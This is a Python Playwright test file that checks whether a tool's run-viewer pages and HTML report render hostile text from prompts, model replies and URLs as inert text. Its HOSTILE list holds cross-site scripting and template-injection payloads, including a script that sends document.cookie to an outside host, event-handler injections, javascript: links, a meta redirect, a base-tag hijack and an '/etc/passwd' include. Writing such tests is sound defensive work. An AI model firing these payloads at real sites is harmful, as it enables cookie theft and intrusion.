"""Whatever a user, a model or a scorer wrote stays text: in a real browser nothing of it runs, and the page goes on.

The page's own policy is on in all of this.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from windows import Site, Windows, press, ready, rsft

RUNS = "window.hacked = (window.hacked || 0) + 1; alert(1); fetch('https://example.org/' + document.cookie)"
HOSTILE = [
    f"<script>{RUNS}</script>",
    f'</p></li></script><svg/onload="{RUNS}"><img src=x onerror="{RUNS}">',
    "[a link](javascript:alert(1)) ![picture](https://example.org/p.png) <a href='javascript:alert(1)'>b</a>",
    "\x1b]8;;https://example.org\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred\x07 \x9b2J \u202egnp.exe\u202c \x00 nul",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ ''.__class__ }} ${7*7} <%= 7*7 %>",
    "<div hx-get='https://example.org/' hx-trigger='load' data-key='j' hx-on:click='alert(1)'>x</div>",
    "<style>* { display: none }</style><meta http-equiv=refresh content='0; url=https://example.org'>",
    "<base href='https://example.org/'><iframe srcdoc='<script>parent.hacked=1</script>'></iframe><form id=queue>",
    f"]]><!--\"'><textarea autofocus onfocus={json.dumps(RUNS)}></textarea>",
    "a long line " + "0123456789" * 100_000,
]
NAME = "<svg onload=alert(1)> {{ 7 * 7 }} '\"&amp;"
RECIPE = """
model: none
engine: {type: scripted, replies: REPLIES}
prompts: {train: train.jsonl, heldout: heldout.jsonl}
sampling: {candidates: 6, max_tokens: 1100000}
budget: {stop_at_accepted: null, early_rejection: false}
scorers: {said: mine.py:said, failing: mine.py:failing}
scoring: {max_failed: 1.0}
selection: [said >= 1, {cap: 4}]
training: {type: "null"}
loop: {iterations: 1, control: none}
"""
SCORERS = """
from rsft import Score


def said(replies):
    return [Score(float(len(reply.text) % 3), reply.text[:5000] + reply.prompt.id) for reply in replies]


def failing(replies):
    return [Score.failed(reply.text[:500]) if "script" in reply.text else Score(0.5) for reply in replies]
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, serve: Callable[[Path], Site], chromium: object) -> Site:
    """The pages of a run in which all that can be written by somebody else is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "mine.py").write_text(SCORERS)
    (folder / "r.yaml").write_text(RECIPE.replace("REPLIES", json.dumps(HOSTILE)))
    rows = [{"id": f"{i}{text[:40]}", "prompt": text, "fields": text[:80]} for i, text in enumerate(HOSTILE)]
    for split in ("train", "heldout"):
        lines = [json.dumps({**row, "id": f"{split} {row['id']}"}) for row in rows]
        (folder / f"{split}.jsonl").write_text("\n".join(lines))
    rsft("run", "r.yaml", "--set", "run=runs/plain", folder=folder)
    (folder / "runs/plain").rename(folder / "runs" / NAME.replace("/", ""))
    return serve(folder / "runs")


@pytest.fixture
def page(site: Site, windows: Windows) -> Page:
    return windows.open(site)


def test_nothing_runs_on_any_page_of_the_run(page: Page) -> None:
    page.get_by_role("link", name=NAME).click()
    expect(page.locator("h1")).to_have_text(NAME)
    inert(page)
    page.get_by_role("link", name="iteration 1").click()
    expect(page.locator("[data-row]")).to_have_count(25)
    inert(page)
    for number in (2, 3):
        press(page, "n")
        expect(page.get_by_text(f"page {number} of 3")).to_be_visible()
        inert(page)
    ready(page).get_by_label("In replies").fill("<script>")
    expect(page).to_have_url(re.compile("text=%3Cscript%3E"))
    inert(page)
    page.get_by_role("link", name="Thresholds").click()
    expect(page.locator(".tally")).to_be_visible()
    ready(page).get_by_role("spinbutton", name="said >=, as a number").fill("2")
    expect(page.locator("#effect > pre")).to_contain_text("said >= 2")
    inert(page)
    page.get_by_role("link", name="Label", exact=True).click()
    for key in "gbs":
        before = page.get_by_role("status").inner_text()
        press(page, key)
        expect(page.get_by_role("status")).not_to_have_text(before)
        inert(page)


@pytest.mark.parametrize("place", range(len(HOSTILE)))
def test_a_hostile_candidate_is_shown_as_it_was_written(place: int, page: Page, site: Site) -> None:
    text = HOSTILE[place]
    page.get_by_role("link", name=NAME).click()
    page.get_by_role("link", name="iteration 1").click()
    expect(page.locator("#found")).to_be_visible()
    ready(page).get_by_label("In replies").fill(text[:12])
    expect(page).to_have_url(re.compile("text=[^&]"))
    page.locator("#row-1").click()
    shown = page.locator(".turn.this .text")
    expect(shown).to_be_visible()
    assert as_text(shown.evaluate("one => one.textContent")) == as_text(text)
    inert(page)
    press(page, "u")
    expect(page.locator("#found")).to_be_visible()


def test_a_list_holds_only_the_beginning_of_a_long_reply(page: Page, site: Site) -> None:
    page.goto(f"{site.base}/candidates?{urlencode({'run': NAME, 'iteration': 1, 'text': HOSTILE[-1][:12]})}")
    expect(page.locator("[data-row]").first).to_be_visible()
    assert len(page.content()) < 200_000


def test_an_address_that_holds_markup_is_answered_in_text(page: Page, site: Site) -> None:
    for path in (
        "/run?run=<img src=x onerror=alert(1)>",
        "/candidates?run=x&iteration=<script>alert(1)</script>",
        "/<svg onload=alert(1)>",
    ):
        page.goto(site.base + path)
        expect(page.get_by_role("alert").locator("visible=true")).to_be_visible()
        inert(page)


def test_nothing_runs_in_the_report(site: Site, windows: Windows, tmp_path: Path) -> None:
    rsft("report", str(next(site.runs.iterdir())), "-o", str(tmp_path / "report.html"), folder=tmp_path)
    page = windows.blank()
    page.goto((tmp_path / "report.html").as_uri())
    expect(page.locator("h1")).to_be_visible()
    inert(page)


def inert(page: Page) -> None:
    """Nothing ran, nothing of it became an element, and the page is not wider than its window."""
    found = ready(page).evaluate(
        """() => ({
            hacked: window.hacked,
            elements: document.querySelectorAll(
                "body :is(script, img, iframe, base, meta, textarea, style, [onload], [onerror], [onfocus], " +
                "a[href^=javascript])").length,
            foreign: [...document.querySelectorAll("[href], [src], [hx-get]")].filter(
                (one) => /^(https?:)?[/][/]/.test(one.getAttribute("href") || one.getAttribute("src") || "")).length,
            wider: document.documentElement.scrollWidth > innerWidth &&
                [...document.querySelectorAll("body *")].filter((one) => one.getBoundingClientRect().right > innerWidth)
                .map((one) => one.outerHTML.slice(0, 120)),
            computed: /(?<![0-9])49(?![0-9])/.test(document.querySelector("h1").innerText),
        })"""
    )
    assert found == {"hacked": None, "elements": 0, "foreign": 0, "wider": False, "computed": False}


def as_text(said: str) -> str:
    """As a page can hold it: browsers leave a NUL out."""
    return said.replace("\x00", "")
